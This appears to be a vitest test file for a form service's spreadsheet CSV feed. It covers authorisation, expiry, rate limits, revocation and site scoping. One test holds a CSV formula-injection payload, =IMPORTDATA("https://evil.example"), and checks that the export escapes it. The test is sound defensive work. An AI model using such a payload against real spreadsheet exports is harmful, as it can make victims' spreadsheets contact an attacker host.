import { role } from '@tessera/contracts/enumerations.ts';
import { submissionLimits } from '@tessera/contracts/forms/submission-limits.ts';
import { startTestService, type TestService } from '@tessera/service-kit/testing/test-service.ts';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { forms } from '../../app.ts';
import { aForm, loadForms, send } from '../../testing/forms.ts';
import { startMembers } from '../../testing/members.ts';
import { submissionsAsCsv } from '../inbox/export-submissions.ts';
import { createSubmissionStore } from '../submissions/submission-store.ts';

const people = new Map<string, { roles: number[]; isDisabled?: boolean }>();
let members: Awaited<ReturnType<typeof startMembers>>;
let service: TestService;
let now = Date.parse('2026-11-23T10:00:00Z');
let websiteId = 'site-0';
let websites = 0;
beforeAll(async () => {
  members = await startMembers(people);
  const settings = {
    IDENTITY_URL: members.url,
    ...{ SMTP_URL: 'smtp://127.0.0.1:1', CAPTCHA: 'off' as const },
  };
  service = await startTestService(forms, settings, { now: () => now });
});
afterAll(async () => {
  await service.stop();
  await members.stop();
});
beforeEach(async () => {
  websiteId = `site-${++websites}`;
  people.clear();
  people.set('u', { roles: [role.websiteManager] });
  members.state.isAway = false;
  await loadForms(service, [aForm({ notifyEmail: null, fields: [message] })], websiteId);
});

const message = { id: 'message', type: 'textarea', title: 'Message', required: false };
const path = '/api/form/submissions/feeds/form-contact';
const owner = (code: number = role.websiteManager) =>
  service.as({ kind: 'staff', siteUserId: 'u', roles: [code], websiteId });
/** Any program with the address. */
const program = () => service.as({ websiteId });

async function make(): Promise<string> {
  const { status, body } = await owner().call('POST', path, {});
  expect(status).toBe(200);
  return body.path;
}
async function sent(text: string, more: object = {}) {
  now += 1_000;
  return send(service.as({ websiteId }), { form: { message: text }, ...more });
}
const linesOf = (text: string) => text.replace('\uFEFF', '').trim().split('\r\n');

describe('An address for spreadsheets', () => {
  test('can be read with its key, as CSV, newest first, without spam and bin', async () => {
    const address = await make();
    await sent('The first');
    const { body: thrown } = await sent('Thrown away');
    await sent('A machine', { homepage: 'https://pills.example' });
    await sent('The last');
    await owner().call('POST', '/api/form/submissions/changes', {
      ids: [thrown.result.submissionId],
      change: { box: 'bin' },
    });
    const { status, body, headers } = await program().call('GET', address);
    expect(status).toBe(200);
    expect([headers.get('content-type'), headers.get('cache-control')]).toEqual([
      'text/csv; charset=utf-8',
      'no-store',
    ]);
    expect(linesOf(body).map((line) => line.split(',').at(-1))).toEqual(['Message', 'The last', 'The first']);
  });

  test('SAFE-19 holds nothing that a spreadsheet would run', async () => {
    const address = await make();
    await sent('=IMPORTDATA("https://evil.example")');
    const [, line = ''] = linesOf((await program().call('GET', address)).body);
    expect(line).toContain(`"'=IMPORTDATA(""https://evil.example"")"`);
  });

  test('is shown once', async () => {
    const key = (await make()).split('/').at(-1) ?? '';
    expect(key.length).toBeGreaterThanOrEqual(43);
    const { body } = await owner().call('GET', path);
    const createdBy = { siteUserId: 'u', name: 'u Fern', isDisabled: false };
    const endsOn = now + 365 * 24 * 3_600_000;
    expect(body).toEqual({ feed: { createdOn: now, readOn: null, createdBy, endsOn, isOff: false } });
  });

  test('says when it was read last', async () => {
    const address = await make();
    await program().call('GET', address);
    const readAt = now;
    now += 60_000;
    await program().call('GET', address);
    expect((await owner().call('GET', path)).body.feed.readOn).toBe(readAt);
  });

  test('ends when it is ended, and when another is made', async () => {
    const first = await make();
    const second = await make();
    expect((await program().call('GET', first)).body.code).toBe('feed.unknown');
    expect((await program().call('GET', second)).status).toBe(200);
    expect((await owner().call('DELETE', path)).body).toEqual({ feed: null });
    expect((await program().call('GET', second)).status).toBe(404);
    expect((await owner().call('GET', path)).body).toEqual({ feed: null });
  });

  test.each<[string, { roles: number[]; isDisabled?: boolean } | undefined]>([
    ['is disabled', { roles: [role.websiteManager], isDisabled: true }],
    ['lost the role', { roles: [role.reporting] }],
    ['may read submissions, and not hand them on', { roles: [role.editor] }],
    ['is gone', undefined],
  ])('AUTH-056 is off while its creator %s', async (_what, creator) => {
    const address = await make();
    if (creator) people.set('u', creator);
    else people.delete('u');
    expect((await program().call('GET', address)).body.code).toBe('feed.unknown');
    const { feed } = (await owner().call('GET', path)).body;
    expect([feed.isOff, feed.readOn]).toEqual([true, null]);
    people.set('u', { roles: [role.websiteManager] });
    expect((await program().call('GET', address)).status).toBe(200);
  });

  test('returns no data while its creator’s rights are unknown', async () => {
    const address = await make();
    members.state.isAway = true;
    const { status, body } = await program().call('GET', address);
    expect([status, body.code]).toEqual([503, 'service.unavailable']);
  });

  test('ends after a year', async () => {
    const address = await make();
    now += 365 * 24 * 3_600_000 - 1;
    expect((await program().call('GET', address)).status).toBe(200);
    now += 1;
    expect((await program().call('GET', address)).body.code).toBe('feed.unknown');
    expect((await owner().call('GET', path)).body.feed.isOff).toBe(true);
  });

  test('without a creator is invalid', async () => {
    const address = await make();
    const stored = service.db.collection('feeds');
    await stored.updateOne({ websiteId }, { $unset: { createdBy: '', endsMs: '' } });
    expect((await program().call('GET', address)).body.code).toBe('feed.unknown');
    expect((await owner().call('GET', path)).body.feed).toMatchObject({ createdBy: null, isOff: true });
  });

  test('is good on its own website, for its own form', async () => {
    const address = await make();
    expect((await service.as({ websiteId: 'another' }).call('GET', address)).status).toBe(404);
    expect((await program().call('GET', '/api/form/feed/guessed')).status).toBe(404);
    expect((await owner().call('POST', path.replace('contact', 'none'), {})).body.code).toBe('form.unknown');
    for (const code of [role.editor, role.storeManager])
      expect((await owner(code).call('POST', path, {})).status).toBe(403);
  });

  test('is read thirty times an hour at most', async () => {
    const address = await make();
    for (let read = 0; read < 30; read += 1) expect((await program().call('GET', address)).status).toBe(200);
    expect((await program().call('GET', address)).status).toBe(429);
  });
});

test('of many submissions the newest are imported, and so many at most', async () => {
  for (const text of ['a', 'b', 'c']) await sent(text);
  const store = createSubmissionStore(service.models);
  const wanted = { websiteId, who: undefined, filter: { formId: 'form-contact' }, now, atMost: 2 };
  let text = '';
  for await (const piece of submissionsAsCsv(store, wanted)) text += piece;
  expect(linesOf(text).map((line) => line.split(',').at(-1))).toEqual(['Message', 'c', 'b']);
  expect(submissionLimits.feed).toBe(5_000);
});
